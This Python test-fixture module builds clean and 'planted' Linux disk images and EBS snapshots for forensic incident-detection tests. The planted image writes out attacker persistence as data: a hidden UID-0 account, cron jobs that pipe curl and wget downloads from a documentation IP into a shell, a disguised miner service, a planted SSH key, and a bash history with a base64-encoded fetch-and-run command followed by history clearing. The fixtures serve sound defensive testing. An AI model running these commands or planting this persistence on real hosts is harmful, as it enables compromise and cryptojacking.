"""Small Linux disk images for the analysis tests and the demo, built with mkfs.ext4 -d from a directory tree (no mounting,
no root), and written into EBS-direct snapshots (the only kind moto serves the EBS direct APIs for).

The planted image holds what an attacker typically leaves on a Linux host; the clean image is the same host
without it. Every file of the ordinary host is dated well before the incident window, and every planted file
inside it, so a test can ask "what in /etc changed during the incident" and get only the planted files.
"""

from __future__ import annotations

import os
import shutil
import struct
import subprocess
from datetime import datetime, timezone
from pathlib import Path

BEFORE = datetime(2024, 1, 1, tzinfo=timezone.utc).timestamp()  # the host as installed
INCIDENT = datetime(2025, 3, 10, 12, 0, tzinfo=timezone.utc).timestamp()  # when the planted files were written
FILESYSTEM_BYTES = 64 << 20
PARTITION_OFFSET = 1 << 20  # where fdisk puts the first partition
EBS_BLOCK = 512 << 10  # the block size AWS reads and writes snapshots in

MINER_URL = "http://203.0.113.7/x.sh"
ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyPlantedForTheTestOnly0000000000 attacker@kali"

ORDINARY = {
    "etc/os-release": 'NAME="Ubuntu"\nVERSION="22.04.4 LTS (Jammy Jellyfish)"\nID=ubuntu\nID_LIKE=debian\n'
                      'PRETTY_NAME="Ubuntu 22.04.4 LTS"\nVERSION_ID="22.04"\nVERSION_CODENAME=jammy\n',
    "etc/hostname": "web-01\n",
    # What dissect looks for to call a filesystem Linux, and Debian-like (for the version from os-release).
    "etc/debian_version": "bookworm/sid\n",
    "etc/sysctl.conf": "",
    "run/.keep": "",
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n"
                  "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                  "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
                  "ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash\n",
    "etc/group": "root:x:0:\nsudo:x:27:ubuntu\nubuntu:x:1000:\n",
    "etc/shadow": "root:*:19000:0:99999:7:::\nubuntu:!:19000:0:99999:7:::\n",
    "etc/crontab": "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
                   "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n",
    "etc/systemd/system/nginx.service": "[Unit]\nDescription=nginx\n\n[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n\n"
                                        "[Install]\nWantedBy=multi-user.target\n",
    "etc/ssh/sshd_config": "PermitRootLogin no\nPasswordAuthentication no\n",
    "home/ubuntu/.bash_history": "sudo apt update\nls -la\nsystemctl status nginx\n",
    "root/.bash_history": "apt upgrade -y\njournalctl -u nginx\n",
    "usr/bin/placeholder": "#!/bin/sh\n",
    "tmp/.keep": "",
}

PLANTED = {
    # A second UID-0 account, appended to the host's own.
    "etc/passwd": ORDINARY["etc/passwd"] + "sysupdate:x:0:0::/var/tmp:/bin/bash\n",
    # ...made on the incident's day (useradd writes the day, in days since 1970, into the third field).
    "etc/shadow": ORDINARY["etc/shadow"] + f"sysupdate:$6$salt$notarealhash:{int(INCIDENT // 86400)}:0:99999:7:::\n",
    "etc/crontab": ORDINARY["etc/crontab"] + f"*/5 * * * * root curl -fsSL {MINER_URL} | sh\n",
    "var/spool/cron/crontabs/www-data": f"@reboot wget -q -O- {MINER_URL} | bash\n",
    "etc/systemd/system/dbus-update.service": "[Unit]\nDescription=D-Bus update helper\n\n[Service]\n"
                                              "ExecStart=/tmp/.x/kworker -c /tmp/.x/config.json\nRestart=always\n\n"
                                              "[Install]\nWantedBy=multi-user.target\n",
    "root/.ssh/authorized_keys": ATTACKER_KEY + "\n",
    "root/.bash_history": ORDINARY["root/.bash_history"] + "cd /tmp\nmkdir .x && cd .x\n"
                          "wget http://203.0.113.7/xmrig.tar.gz\ntar xzf xmrig.tar.gz\nchmod +x kworker\n"
                          "./kworker -c config.json &\necho Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IHNo | base64 -d | sh\n"
                          "history -c\n",
    "tmp/.x/kworker": "\x7fELF-not-really-a-miner\n",
    "tmp/.x/config.json": '{"pools": [{"url": "pool.example:3333"}]}\n',
}
EXECUTABLE = {"tmp/.x/kworker", "usr/bin/placeholder"}


def build_tree(directory: Path, *, planted: bool) -> Path:
    """The host's files under ``directory``; with ``planted``, the attacker's too (dated in the incident)."""
    files = dict(ORDINARY)
    if planted:
        files.update(PLANTED)
    for relative, text in files.items():
        path = directory / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        os.chmod(path, 0o755 if relative in EXECUTABLE else 0o600 if relative in ("etc/shadow", "root/.ssh/authorized_keys") else 0o644)
        when = INCIDENT if planted and relative in PLANTED else BEFORE
        os.utime(path, (when, when))
    return directory


def mkfs_ext4() -> str | None:
    """The path of mkfs.ext4 (e2fsprogs), or None."""
    return shutil.which("mkfs.ext4") or ("/usr/sbin/mkfs.ext4" if os.path.exists("/usr/sbin/mkfs.ext4") else None)


def build_filesystem(workdir: Path, *, planted: bool, name: str = "fs.img") -> Path:
    """A 64 MiB ext4 filesystem image holding the host (no partition table: what an unpartitioned EBS volume holds)."""
    mkfs = mkfs_ext4()
    if mkfs is None:
        raise FileNotFoundError("mkfs.ext4 is not installed (e2fsprogs; deploy/system-deps.sh installs it)")
    tree = build_tree(workdir / f"{name}.tree", planted=planted)
    image = workdir / name
    subprocess.run([mkfs, "-q", "-F", "-L", "rootfs", "-d", str(tree), str(image), str(FILESYSTEM_BYTES >> 20) + "M"],
                   check=True, capture_output=True)
    return image


def build_disk(workdir: Path, *, planted: bool, disk_bytes: int = 1 << 30, name: str = "disk.img") -> Path:
    """A sparse disk of ``disk_bytes`` with one MBR partition at 1 MiB holding the 64 MiB filesystem (as fdisk lays out a disk)."""
    filesystem = build_filesystem(workdir, planted=planted, name=name + ".fs")
    disk = workdir / name
    with open(disk, "wb") as out:
        out.truncate(disk_bytes)
        out.write(mbr(PARTITION_OFFSET // 512, FILESYSTEM_BYTES // 512))
        out.seek(PARTITION_OFFSET)
        with open(filesystem, "rb") as source:
            while chunk := source.read(4 << 20):
                out.write(chunk)
    filesystem.unlink()
    return disk


def mbr(first_sector: int, sectors: int) -> bytes:
    """A master boot record with one Linux (0x83) partition; CHS fields set to the 'use LBA' values."""
    entry = struct.pack("<B3sB3sII", 0x00, b"\xfe\xff\xff", 0x83, b"\xfe\xff\xff", first_sector, sectors)
    return bytes(446) + entry + bytes(16 * 3) + b"\x55\xaa"


def write_ebs_snapshot(blocks: dict[int, bytes], *, size_gib: int = 1, tags: dict[str, str] | None = None, region: str = "us-east-1") -> str:
    """A completed snapshot made through the EBS direct APIs (the only kind moto serves them for) holding ``blocks``
    (index → 512 KiB of data); the rest of its ``size_gib`` GiB never written. Returns its ID."""
    import base64
    import hashlib

    import boto3

    ebs = boto3.client("ebs", region_name=region)
    snapshot = ebs.start_snapshot(VolumeSize=size_gib, Tags=[{"Key": k, "Value": v} for k, v in (tags or {}).items()],
                                  Description="written by the test")["SnapshotId"]
    for index, data in blocks.items():
        assert len(data) == EBS_BLOCK
        ebs.put_snapshot_block(SnapshotId=snapshot, BlockIndex=index, BlockData=data, DataLength=len(data),
                               Checksum=base64.b64encode(hashlib.sha256(data).digest()).decode(), ChecksumAlgorithm="SHA256")
    ebs.complete_snapshot(SnapshotId=snapshot, ChangedBlocksCount=len(blocks))
    return snapshot


def snapshot_of(image_path: Path, tags: dict[str, str] | None = None, region: str = "us-east-1") -> str:
    """A 1 GiB EBS-direct snapshot whose first blocks hold the file at ``image_path`` (blocks of zeros left unwritten)."""
    data = image_path.read_bytes()
    blocks = {}
    for index in range(0, len(data), EBS_BLOCK):
        block = data[index:index + EBS_BLOCK].ljust(EBS_BLOCK, b"\0")
        if block.strip(b"\0"):
            blocks[index // EBS_BLOCK] = block
    return write_ebs_snapshot(blocks, tags=tags, region=region)
